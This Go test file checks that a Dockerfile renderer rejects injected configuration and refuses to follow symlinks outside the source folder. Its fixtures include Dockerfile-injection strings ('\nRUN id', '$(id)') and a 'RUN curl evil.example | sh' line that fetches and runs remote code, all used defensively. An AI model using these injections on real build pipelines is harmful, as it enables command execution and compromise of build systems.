package render

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/knative-lambda/lambda-builder/internal/step"
)

// TestHostileConfig: values an attacker (or a careless param) could use to
// add Dockerfile instructions. Each must be refused before anything is
// written; without the check each would reach the Dockerfile.
func TestHostileConfig(t *testing.T) {
	tests := []struct {
		name    string
		env     map[string]string
		wantErr string
	}{
		{name: "newline in an ENTRYPOINT argument", env: map[string]string{"ENTRYPOINT": `["python", "main.py\nRUN curl evil.example | sh"]`}, wantErr: "control character"},
		{name: "carriage return in ENTRYPOINT", env: map[string]string{"ENTRYPOINT": `["python", "main.py\rRUN id"]`}, wantErr: "control character"},
		{name: "NUL in ENTRYPOINT", env: map[string]string{"ENTRYPOINT": `["python\u0000", "main.py"]`}, wantErr: "control character"},
		{name: "NEL in ENTRYPOINT", env: map[string]string{"ENTRYPOINT": "[\"python\", \"a\u0085RUN id\"]"}, wantErr: "control character"},
		{name: "line separator in ENTRYPOINT", env: map[string]string{"ENTRYPOINT": "[\"python\", \"a\u2028RUN id\"]"}, wantErr: "control character"},
		{name: "instruction after the ENTRYPOINT array", env: map[string]string{"ENTRYPOINT": "[\"python\", \"main.py\"]\nRUN id"}, wantErr: "nothing after it"},
		{name: "ENTRYPOINT in shell form", env: map[string]string{"ENTRYPOINT": "python main.py; id"}, wantErr: "JSON array of strings"},
		{name: "ENTRYPOINT invalid UTF-8", env: map[string]string{"ENTRYPOINT": "[\"python\", \"\xff\"]"}, wantErr: "not valid UTF-8"},
		{name: "base image with spaces", env: map[string]string{"PYTHON_BASE_IMAGE": "python:3.12 AS build"}, wantErr: "PYTHON_BASE_IMAGE"},
		{name: "base image with a newline", env: map[string]string{"PYTHON_BASE_IMAGE": "python:3.12\nRUN id"}, wantErr: "control character"},
		{name: "base image with $(...)", env: map[string]string{"NODE_BASE_IMAGE": "node:$(id)"}, wantErr: "NODE_BASE_IMAGE"},
		{name: "base image with a variable", env: map[string]string{"GO_BUILDER_IMAGE": "${EVIL}"}, wantErr: "GO_BUILDER_IMAGE"},
		{name: "base image with quotes", env: map[string]string{"GO_RUNTIME_IMAGE": `distroless"static`}, wantErr: "GO_RUNTIME_IMAGE"},
		{name: "base image with a trailing backslash", env: map[string]string{"PYTHON_BASE_IMAGE": `python:3.12\`}, wantErr: "PYTHON_BASE_IMAGE"},
		{name: "base image with a platform flag", env: map[string]string{"PYTHON_BASE_IMAGE": "--platform=linux/arm64"}, wantErr: "PYTHON_BASE_IMAGE"},
		{name: "base image that reads as the end of flags", env: map[string]string{"PYTHON_BASE_IMAGE": "--"}, wantErr: "PYTHON_BASE_IMAGE"}, // found by the fuzzer
		{name: "base image starting with a dash", env: map[string]string{"PYTHON_BASE_IMAGE": "-x/python:3.12"}, wantErr: "PYTHON_BASE_IMAGE"},
		{name: "registry starting with a dash", env: map[string]string{"BASE_REGISTRY": "-r.example"}, wantErr: "BASE_REGISTRY"},
		{name: "version with spaces", env: map[string]string{"PYTHON_VERSION": "3.12-slim AS x"}, wantErr: "PYTHON_VERSION"},
		{name: "version with $(...)", env: map[string]string{"GO_VERSION": "$(id)"}, wantErr: "GO_VERSION"},
		{name: "registry with a path", env: map[string]string{"BASE_REGISTRY": "evil.example/x"}, wantErr: "BASE_REGISTRY"},
		{name: "registry with a newline", env: map[string]string{"BASE_REGISTRY": "r.example\nRUN id"}, wantErr: "BASE_REGISTRY"},
		{name: "build arg with a value", env: map[string]string{"BUILD_ARGS": "TOKEN=secret"}, wantErr: "BUILD_ARGS"},
		{name: "build arg lower case", env: map[string]string{"BUILD_ARGS": "http_proxy"}, wantErr: "BUILD_ARGS"},
		{name: "build arg with a newline", env: map[string]string{"BUILD_ARGS": "A\nRUN id"}, wantErr: "control character"},
		{name: "build arg with $(...)", env: map[string]string{"BUILD_ARGS": "$(id)"}, wantErr: "BUILD_ARGS"},
		{name: "unknown language", env: map[string]string{"LANGUAGE": "ruby"}, wantErr: `LANGUAGE "ruby" is not supported: use auto, python, node or go`},
		{name: "Dockerfile path escaping SOURCE_DIR", env: map[string]string{"DOCKERFILE": "../Dockerfile"}, wantErr: "inside SOURCE_DIR"},
		{name: "GO_PACKAGE with $(...)", env: map[string]string{"GO_PACKAGE": "./$(id)"}, wantErr: "GO_PACKAGE"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := copyFixture(t, "python")
			env := map[string]string{"SOURCE_DIR": src}
			for k, v := range tt.env {
				env[k] = v
			}
			_, err := run(t, env, nil)
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) || step.ExitCode(err) != step.CodeConfig {
				t.Fatalf("err = %v (exit %d), want a config error saying %q", err, step.ExitCode(err), tt.wantErr)
			}
			if _, err := os.Stat(filepath.Join(src, "Dockerfile")); !os.IsNotExist(err) {
				t.Errorf("a Dockerfile was written despite the error")
			}
		})
	}
}

// TestHostileEntrypointStaysLiteral: quotes, $(...), backslashes and shell
// operators are allowed in ENTRYPOINT arguments, and stay exactly those
// arguments of an exec-form ENTRYPOINT: no shell ever sees them, and the
// Dockerfile keeps the template's instructions.
func TestHostileEntrypointStaysLiteral(t *testing.T) {
	args := []string{"python", "-c", `print("it's $(id) ` + "`id`" + ` \"quoted\" \\ && id; $HOME")`, `C:\trailing\`, "]", "#", "--"}
	src := copyFixture(t, "python")
	entry, _ := execJSON(args)
	results, err := run(t, map[string]string{"SOURCE_DIR": src, "ENTRYPOINT": entry}, nil)
	if err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(results[ResultDockerfile])
	if err != nil {
		t.Fatal(err)
	}
	baseline := renderCase(t, "python", nil, nil)["Dockerfile"]
	gotIns, wantIns := parseInstructions(t, got), parseInstructions(t, []byte(baseline))
	if !reflect.DeepEqual(commands(gotIns), commands(wantIns)) {
		t.Fatalf("instructions %v, want the template's %v", commands(gotIns), commands(wantIns))
	}
	last := gotIns[len(gotIns)-1]
	if last.Cmd != "entrypoint" || !last.JSON || !reflect.DeepEqual(last.Args, args) {
		t.Errorf("ENTRYPOINT parsed as %+v, want exec form %q", last, args)
	}
}

// TestHostileTree: a source tree whose symlinks point outside SOURCE_DIR.
// The step must neither read nor write through them.
func TestHostileTree(t *testing.T) {
	tests := []struct {
		name     string
		files    map[string]string // $OUT in a value is the outside folder
		env      map[string]string
		wantCode int
		wantErr  string
	}{
		{name: "Dockerfile symlinked outside (auto)", files: map[string]string{"Dockerfile": symlinkPrefix + "$OUT/Dockerfile"},
			wantCode: step.CodeInput, wantErr: "symlink to"},
		{name: "Dockerfile symlinked outside (render)", files: map[string]string{"Dockerfile": symlinkPrefix + "$OUT/Dockerfile"}, env: map[string]string{"DOCKERFILE_POLICY": "render"},
			wantCode: step.CodeInput, wantErr: "outside SOURCE_DIR"},
		{name: "Dockerfile symlinked outside (user)", files: map[string]string{"Dockerfile": symlinkPrefix + "$OUT/Dockerfile"}, env: map[string]string{"DOCKERFILE_POLICY": "user"},
			wantCode: step.CodeInput, wantErr: "outside SOURCE_DIR"},
		{name: "Dockerfile symlinked through ..", files: map[string]string{"Dockerfile": symlinkPrefix + "../" + "outside-sibling"},
			wantCode: step.CodeInput, wantErr: "outside SOURCE_DIR"},
		{name: "Dockerfile folder symlinked outside", files: map[string]string{"build": symlinkPrefix + "$OUT"}, env: map[string]string{"DOCKERFILE": "build/Dockerfile"},
			wantCode: step.CodeInput, wantErr: "build/Dockerfile"},
		{name: ".dockerignore symlinked outside", files: map[string]string{".dockerignore": symlinkPrefix + "$OUT/secret"},
			wantCode: step.CodeInput, wantErr: ".dockerignore is a symlink"},
		{name: "package.json symlinked outside", files: map[string]string{"package.json": symlinkPrefix + "$OUT/package.json"}, env: map[string]string{"LANGUAGE": "node"},
			wantCode: step.CodeInput, wantErr: "package.json"},
		{name: "Dockerfile is a folder", files: map[string]string{"Dockerfile/": ""},
			wantCode: step.CodeInput, wantErr: "not a regular file"},
		{name: "user policy without a Dockerfile", env: map[string]string{"DOCKERFILE_POLICY": "user"},
			wantCode: step.CodeInput, wantErr: "DOCKERFILE_POLICY is user but SOURCE_DIR has no Dockerfile"},
		{name: "ambiguous tree", files: map[string]string{"package.json": "{}"},
			wantCode: step.CodeInput, wantErr: "several languages"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := t.TempDir()
			outside := map[string]string{"Dockerfile": "FROM outside\n", "secret": "s3cr3t\n", "package.json": `{"main": "stolen.js"}`}
			writeTree(t, out, outside)
			src := copyFixture(t, "python")
			files := map[string]string{}
			for k, v := range tt.files {
				files[k] = strings.ReplaceAll(v, "$OUT", out)
			}
			writeTree(t, src, files)
			env := map[string]string{"SOURCE_DIR": src}
			for k, v := range tt.env {
				env[k] = v
			}
			_, err := run(t, env, nil)
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) || step.ExitCode(err) != tt.wantCode {
				t.Fatalf("err = %v (exit %d), want exit %d saying %q", err, step.ExitCode(err), tt.wantCode, tt.wantErr)
			}
			for name, want := range outside {
				if got, _ := os.ReadFile(filepath.Join(out, name)); string(got) != want {
					t.Errorf("the outside file %s changed to %q", name, got)
				}
			}
			if entries, _ := os.ReadDir(out); len(entries) != len(outside) {
				t.Errorf("files appeared outside SOURCE_DIR: %v", entries)
			}
		})
	}
}

// TestRenderReplacesSymlinksInsteadOfFollowing: with DOCKERFILE_POLICY=render
// a Dockerfile symlinked to a file inside the tree, and a planted temporary
// name, are replaced; their targets are not overwritten.
func TestRenderReplacesSymlinksInsteadOfFollowing(t *testing.T) {
	src := copyFixture(t, "python")
	mainPy, _ := os.ReadFile(filepath.Join(src, "main.py"))
	writeTree(t, src, map[string]string{
		"Dockerfile":                symlinkPrefix + "main.py",
		".render-dockerfile.tmp":    symlinkPrefix + "requirements.txt",
		"requirements.txt.original": "",
	})
	reqs, _ := os.ReadFile(filepath.Join(src, "requirements.txt"))
	if _, err := run(t, map[string]string{"SOURCE_DIR": src, "DOCKERFILE_POLICY": "render"}, nil); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(filepath.Join(src, "main.py")); string(got) != string(mainPy) {
		t.Errorf("main.py was overwritten through the Dockerfile symlink")
	}
	if got, _ := os.ReadFile(filepath.Join(src, "requirements.txt")); string(got) != string(reqs) {
		t.Errorf("requirements.txt was overwritten through the planted temporary name")
	}
	fi, err := os.Lstat(filepath.Join(src, "Dockerfile"))
	if err != nil || !fi.Mode().IsRegular() {
		t.Errorf("Dockerfile is %v, %v; want a regular file", fi.Mode(), err)
	}
}

// TestSymlinkInsideIsKept: a Dockerfile symlinked to a file inside the tree
// is the user's Dockerfile.
func TestSymlinkInsideIsKept(t *testing.T) {
	src := copyFixture(t, "go")
	writeTree(t, src, map[string]string{"docker/fn.Dockerfile": userDockerfile, "Dockerfile": symlinkPrefix + "docker/fn.Dockerfile"})
	results, err := run(t, map[string]string{"SOURCE_DIR": src}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if results[ResultRendered] != "false" || results[ResultBaseImages] != `["registry.example.com/team/base:7","gcr.io/distroless/static-debian12"]` {
		t.Errorf("results = %v", results)
	}
}

// TestRerenderOwnOutput: a retried run on the same workspace renders again
// (with the new params) instead of keeping its own earlier output.
func TestRerenderOwnOutput(t *testing.T) {
	src := copyFixture(t, "go")
	if _, err := run(t, map[string]string{"SOURCE_DIR": src}, nil); err != nil {
		t.Fatal(err)
	}
	results, err := run(t, map[string]string{"SOURCE_DIR": src, "BASE_REGISTRY": "127.0.0.1:5000"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(filepath.Join(src, "Dockerfile"))
	if results[ResultRendered] != "true" || !strings.Contains(string(b), "FROM 127.0.0.1:5000/library/golang:1.26 AS build") {
		t.Errorf("second run kept the first output: %v\n%s", results, b)
	}
}

// TestRenderRefusesABadPlan: Render checks a Plan itself, so a caller that
// skips Options validation cannot inject either.
func TestRenderRefusesABadPlan(t *testing.T) {
	good := Plan{Language: Go, BuildImage: "golang:1.26", RuntimeImage: "gcr.io/distroless/static-debian12:nonroot", Entrypoint: []string{"/app/function"}, Go: GoFacts{Package: "."}}
	if _, err := Render(good); err != nil {
		t.Fatalf("the good plan fails: %v", err)
	}
	tests := []struct {
		name   string
		change func(p *Plan)
	}{
		{"image with a newline", func(p *Plan) { p.BuildImage = "golang:1.26\nRUN id" }},
		{"image with spaces", func(p *Plan) { p.RuntimeImage = "scratch AS x" }},
		{"image read as a flag", func(p *Plan) { p.BuildImage = "--" }},
		{"build arg", func(p *Plan) { p.BuildArgs = []string{"A=1"} }},
		{"entrypoint newline", func(p *Plan) { p.Entrypoint = []string{"a\nRUN id"} }},
		{"no entrypoint", func(p *Plan) { p.Entrypoint = nil }},
		{"go package", func(p *Plan) { p.Go.Package = ". && id" }},
		{"language", func(p *Plan) { p.Language = "ruby" }},
		{"python manifest", func(p *Plan) { p.Language, p.Python.Manifest = Python, "x\nRUN id" }},
		{"node lock file", func(p *Plan) { p.Language, p.Node = Node, NodeFacts{Manager: "npm", LockFile: "x ./\nRUN id"} }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := good
			tt.change(&p)
			if out, err := Render(p); err == nil {
				t.Fatalf("rendered:\n%s", out)
			}
		})
	}
}
